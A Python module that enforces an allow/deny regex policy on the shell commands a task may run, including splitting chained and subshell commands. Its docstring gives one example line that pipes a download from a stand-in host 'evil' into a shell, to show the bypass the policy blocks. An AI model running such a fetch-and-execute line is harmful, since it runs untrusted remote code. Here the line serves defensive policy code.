"""Command policy: which shell command lines a task may run.

A policy is two lists of regular expressions (``OFFLOAD_ALLOW`` / ``OFFLOAD_DENY`` or the
config file). Deny wins. With an allow list, *every* simple command in a command line must
match an allow pattern, including the ones hidden in ``$( )`` and backquotes, so an allow
rule for ``make`` does not let ``make && curl evil | sh`` through.

Command lines are split by :func:`offload.policies.shell.split_simple_commands` (re-exported
here), and a line it cannot parse is refused whenever an allow list is set. Everything here
is a pure function of its arguments.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Sequence
from dataclasses import dataclass

from offload.errors import ConfigError, PolicyRefused
from offload.policies.shell import split_simple_commands

__all__ = [
    "CommandPolicy",
    "Decision",
    "check_command",
    "compile_policy",
    "parse_pattern_list",
    "split_simple_commands",
]

_MAX_SHOWN_CHARS = 120


@dataclass(frozen=True)
class CommandPolicy:
    """Compiled allow and deny patterns; empty tuples mean "no rule of that kind"."""

    allow: tuple[re.Pattern[str], ...] = ()
    deny: tuple[re.Pattern[str], ...] = ()


@dataclass(frozen=True)
class Decision:
    """The verdict on one command.

    Attributes:
        allowed: Whether the command may run.
        reason: For a refusal, one line naming the rule that refused it; ``""`` when allowed.
    """

    allowed: bool
    reason: str = ""


def compile_policy(allow: Sequence[str], deny: Sequence[str]) -> CommandPolicy:
    """Compile allow and deny patterns once, at start-up, so a typo fails loudly and early.

    Empty or whitespace-only entries are ignored; other entries are compiled as written.

    Raises:
        ConfigError: A pattern is not a valid regular expression (the message names the
            pattern and the regex error), or a list was given as a single string.
    """
    return CommandPolicy(
        allow=_compile_all(allow, "OFFLOAD_ALLOW"),
        deny=_compile_all(deny, "OFFLOAD_DENY"),
    )


def parse_pattern_list(value: str) -> list[str]:
    r"""Split the environment-variable form of a pattern list.

    Patterns are separated by commas; ``\,`` stands for a literal comma and every other
    backslash pair (``\d``, ``\\``) is kept as written for the regex. Surrounding whitespace
    is stripped and empty entries are dropped.
    """
    patterns: list[str] = []
    current: list[str] = []
    index = 0
    while index < len(value):
        pair = value[index : index + 2]
        if pair.startswith("\\") and len(pair) == 2:
            current.append("," if pair == "\\," else pair)
            index += 2
            continue
        if pair[0] == ",":
            patterns.append("".join(current))
            current = []
        else:
            current.append(pair[0])
        index += 1
    patterns.append("".join(current))
    return [pattern.strip() for pattern in patterns if pattern.strip()]


def check_command(command: str | Sequence[str], policy: CommandPolicy) -> Decision:
    """Decide whether a task's command may run under ``policy``.

    A string is a ``/bin/sh`` command line and is split into simple commands; an argv list
    is joined with :func:`shlex.join` and treated as one simple command. Deny patterns are
    searched in every simple command (as written and with its quotes removed) and in the
    whole line; any match refuses. With an allow list, every simple command must match one
    allow pattern, and a line that cannot be parsed is refused. Never raises.
    """
    parsed = _parse_line(command) if isinstance(command, str) else _parse_argv(command)
    if isinstance(parsed, Decision):
        return parsed
    reason = _deny_reason(policy.deny, parsed)
    if reason is None and policy.allow:
        reason = _allow_reason(policy.allow, parsed)
    return Decision(allowed=False, reason=reason) if reason else Decision(allowed=True)


# --- policy helpers ---------------------------------------------------------------------


@dataclass(frozen=True)
class _Parsed:
    """A command ready for matching: its simple commands and the texts deny rules see."""

    simple: tuple[str, ...]
    deny_forms: tuple[str, ...]
    error: str = ""


def _compile_all(patterns: Sequence[str], setting: str) -> tuple[re.Pattern[str], ...]:
    if isinstance(patterns, str):
        raise ConfigError(f"{setting} must be a list of patterns, not the string {patterns!r}")
    compiled: list[re.Pattern[str]] = []
    for pattern in patterns:
        if not isinstance(pattern, str):
            raise ConfigError(f"{setting} pattern {pattern!r} must be a string")
        if not pattern.strip():
            continue
        try:
            compiled.append(re.compile(pattern))
        except (re.error, OverflowError, RecursionError) as exc:
            raise ConfigError(f"invalid {setting} pattern {pattern!r}: {exc}") from exc
    return tuple(compiled)


def _parse_line(line: str) -> _Parsed | Decision:
    if not line.strip():
        return Decision(allowed=False, reason="empty command")
    if "\0" in line:
        return Decision(allowed=False, reason="command contains a NUL byte")
    try:
        simple = split_simple_commands(line)
    except PolicyRefused as exc:
        return _Parsed(simple=(), deny_forms=(line,), error=str(exc))
    if not simple:
        return Decision(allowed=False, reason="empty command (only comments or separators)")
    forms: list[str] = []
    for text in simple:
        forms.append(text)
        forms.extend(_unquoted(text))
    forms.append(line)
    return _Parsed(simple=tuple(simple), deny_forms=tuple(dict.fromkeys(forms)))


def _parse_argv(argv: object) -> _Parsed | Decision:
    if not isinstance(argv, Sequence) or not all(isinstance(arg, str) for arg in argv):
        return Decision(allowed=False, reason="command must be a string or a list of strings")
    words: list[str] = list(argv)
    if not words or not words[0].strip():
        return Decision(allowed=False, reason="empty command")
    if any("\0" in word for word in words):
        return Decision(allowed=False, reason="command contains a NUL byte")
    joined = shlex.join(words)
    forms = dict.fromkeys([joined, " ".join(words)])
    return _Parsed(simple=(joined,), deny_forms=tuple(forms))


def _unquoted(text: str) -> list[str]:
    """The command with shell quoting removed, so ``r''m`` cannot dodge a deny rule."""
    try:
        return [" ".join(shlex.split(text))]
    except ValueError:
        return []


def _deny_reason(deny: Sequence[re.Pattern[str]], parsed: _Parsed) -> str | None:
    for form in parsed.deny_forms:
        for pattern in deny:
            if pattern.search(form):
                return f"refused by deny rule {pattern.pattern!r} (matched in {_shown(form)})"
    return None


def _allow_reason(allow: Sequence[re.Pattern[str]], parsed: _Parsed) -> str | None:
    if parsed.error:
        return parsed.error
    for simple in parsed.simple:
        if not any(pattern.search(simple) for pattern in allow):
            return f"{_shown(simple)} is not allowed by any OFFLOAD_ALLOW pattern"
    return None


def _shown(text: str) -> str:
    """Quote text for a one-line message, shortening very long commands."""
    if len(text) > _MAX_SHOWN_CHARS:
        text = text[:_MAX_SHOWN_CHARS] + "..."
    return repr(text)
